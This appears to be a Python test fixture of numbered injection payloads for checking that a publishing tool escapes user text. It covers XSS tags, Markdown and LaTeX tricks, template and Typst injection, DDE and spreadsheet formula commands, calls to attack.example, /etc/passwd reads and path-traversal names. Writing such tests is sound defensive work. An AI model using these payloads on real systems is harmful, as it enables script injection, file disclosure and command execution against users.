"""Texts that try to be more than text where they are shown: what an insats, a member, a question or a comment could be
called by mistake or on purpose.

Each that runs script calls `beacon` (tests/browser.py) with its number; each is meant to be read as it stands.
"""

from __future__ import annotations

HTML = [
    "<script>beacon({n})</script>",
    "<SCRIPT>beacon({n})</SCRIPT>",
    "<script src=//attack.example/{n}.js></script>",
    "<script>document.title='beacon {n}'</script>",
    '"><script>beacon({n})</script>',
    "'><script>beacon({n})</script>",
    "</script><script>beacon({n})</script>",
    "</title><script>beacon({n})</script>",
    "</style><script>beacon({n})</script>",
    "--><script>beacon({n})</script><!--",
    "]]><script>beacon({n})</script>",
    "</td></tr></table><script>beacon({n})</script>",
    "<scr<script>ipt>beacon({n})</scr</script>ipt>",
    "<img src=x onerror=beacon({n})>",
    '<img src="x" onerror="beacon({n})">',
    "<img src=http://attack.example/{n}.png>",
    '" onerror="beacon({n})" x="',
    "' onmouseover='beacon({n})' x='",
    '" autofocus onfocus="beacon({n})',
    "<svg onload=beacon({n})>",
    "<svg><script>beacon({n})</script></svg>",
    "<svg><animate onbegin=beacon({n}) attributeName=x dur=1s>",
    "<svg><foreignObject><iframe onload=beacon({n})></iframe></foreignObject></svg>",
    "<math><mtext><img src=x onerror=beacon({n})></mtext></math>",
    "<body onload=beacon({n})>",
    "<iframe src=javascript:beacon({n})></iframe>",
    '<iframe srcdoc="<script>parent.beacon({n})</script>"></iframe>',
    "<object data=javascript:beacon({n})></object>",
    "<embed src=javascript:beacon({n})>",
    "<a href=javascript:beacon({n})>klicka</a>",
    "<a href='data:text/html,<script>beacon({n})</script>'>klicka</a>",
    "<details open ontoggle=beacon({n})>x</details>",
    "<video><source onerror=beacon({n})></video>",
    "<input autofocus onfocus=beacon({n})>",
    "<select autofocus onfocus=beacon({n})>",
    "<marquee onstart=beacon({n})>x</marquee>",
    "<form action=javascript:beacon({n})><button>Sänd</button></form>",
    "<base href=http://attack.example/{n}/>",
    "<link rel=stylesheet href=http://attack.example/{n}.css>",
    '<meta http-equiv="refresh" content="0;url=http://attack.example/{n}">',
    "<style>@import 'http://attack.example/{n}.css'</style>",
    "<style>*{{background:url(http://attack.example/{n}.png)}}</style>",
    "<div style=background:url(http://attack.example/{n})>x</div>",
    "<template><script>beacon({n})</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=beacon({n})>'>",
    "<textarea></textarea><script>beacon({n})</script>",
    "&lt;script&gt;beacon({n})&lt;/script&gt;",
    "&#60;script&#62;beacon({n})&#60;/script&#62;",
    "&quot; onerror=&quot;beacon({n})",
    "\\u003cscript\\u003ebeacon({n})\\u003c/script\\u003e",
    "＜script＞beacon({n})＜/script＞",
    "+ADw-script+AD4-beacon({n})+ADw-/script+AD4-",
    "javascript:beacon({n})",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=beacon({n}) )//",
    "`-beacon({n})-`",
    "';beacon({n});//",
    '";beacon({n});//',
    "\\';beacon({n});//",
    "${{beacon({n})}}",
    "<!-- beacon({n}) -->",
    "<![CDATA[<script>beacon({n})</script>]]>",
    "<?php beacon({n}) ?>",
    "<x contenteditable onblur=beacon({n})>x</x>",
]

MARKDOWN = [
    "[klicka](javascript:beacon({n}))",
    "[klicka](<javascript:beacon({n})>)",
    "[klicka](data:text/html;base64,PHNjcmlwdD4= '{n}')",
    "![bild](http://attack.example/{n}.png)",
    "![bild](x){{onerror=beacon({n})}}",
    "[text]{{onclick=beacon({n})}}",
    "[text]{{.klass typst:fill=read({n})}}",
    "<javascript:beacon({n})>",
    "<http://attack.example/{n}>",
    "http://attack.example/{n}",
    "//attack.example/{n}",
    "www.attack.example/{n}",
    "[a{n}]: javascript:beacon({n})",
    "`<script>beacon({n})</script>`{{=html}}",
    "```{{=html}} beacon({n})",
    "~~~ {{.python}} beacon({n})",
    "::: {{.content-visible when-format=html}} {n}",
    "::: ruta {n}",
    "# Rubrik {n} {{#sec-avvikelser}}",
    "Rubrik {n} {{.unnumbered}}",
    "@sec-avvikelser {n} och [@bok, s. {n}]",
    "[^{n}] och ^[not {n}]",
    "| cell {n} | cell | <b>",
    "--- rad {n}",
    "1. punkt {n}",
    "    kod {n}",
    "*a{n}* **b{n}** _c{n}_ ~~d{n}~~ ^e{n}^ ~f{n}~",
    ":smile: {n}",
    "$beacon({n})$ och $$\\int_{n}$$",
    "\\input{{/etc/passwd}} {n}",
    "\\write18{{beacon {n}}}",
    "\\href{{javascript:beacon({n})}}{{klicka}}",
    "\\begin{{verbatim}} {n} \\end{{document}}",
]

TEMPLATES = [
    "{{{{ 7 * {n} }}}}",
    "{{{{ config.__class__.__init__.__globals__ }}}} {n}",
    "{{% for x in range({n}) %}}x{{% endfor %}}",
    "{{# kommentar {n} #}}",
    "{{{{< include /etc/passwd >}}}} {n}",
    "{{{{< env HOME >}}}} {n}",
    "{{{{< meta title >}}}} {n}",
    "{{{{< video https://attack.example/{n} >}}}}",
    "{{{{{{< env HOME >}}}}}} {n}",
    "<%= {n} %> #{{{n}}} %{{{n}}}",
    '#read("/etc/passwd") {n}',
    '#eval("{n}")',
    '#import "@preview/x:0.{n}.0": *',
    '#link("javascript:beacon({n})")[klicka]',
    "#raw({n}) = Rubrik",
    "/* kommentar {n} */ // {n}",
    "<etikett-{n}> @etikett-{n}",
    '{{\\field{{\\*\\fldinst INCLUDETEXT "http://attack.example/{n}"}}}}',
    'INCLUDETEXT "http://attack.example/{n}"',
    '{{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" }} {n}',
    'HYPERLINK "http://attack.example/{n}"',
]

SPREADSHEET = [
    "=cmd|' /C calc'!A{n}",
    '=HYPERLINK("http://attack.example/{n}";"klicka")',
    '=WEBSERVICE("http://attack.example/{n}")',
    "+SUM(1;{n})",
    "-2+3+cmd|' /C calc'!A{n}",
    "@SUM({n})",
    "|cmd {n}",
    "x;=cmd|' /C calc'!A{n}",
    '"=A1+{n}"',
    "'=A1+{n}",
    "＝A1+{n}",
]

NAMES = [
    "../../etc/passwd {n}",
    "..\\..\\windows {n}",
    "/etc/passwd {n}",
    "C:\\CON {n}",
    "con {n}",
    "a/b/../c {n}",
    "%2e%2e%2f {n}",
    "Ungdоmstorget {n}",  # with a Cyrillic o
    "Ungdomstorget\u200b {n}",
    "åäö ÅÄÖ é {n}",
    "Ｕｎｇｄｏｍ {n}",
    "🙂 glad {n}",
    "x" * 300 + " {n}",
]  # fmt: skip

#: Every payload with its number.
PAYLOADS = [
    text.format(n=number)
    for number, text in enumerate([*HTML, *MARKDOWN, *TEMPLATES, *SPREADSHEET, *NAMES], start=1)
]

#: Those that the book's font can't write: a pdf of them isn't made, and the fault says why. U+200B is no sign that it lacks.
UNPRINTABLE = [
    text for text in PAYLOADS if any(sign in "＜＞＝🙂" or "\uff21" <= sign <= "\uff5a" for sign in text)
]
PRINTABLE = [text for text in PAYLOADS if text not in UNPRINTABLE]
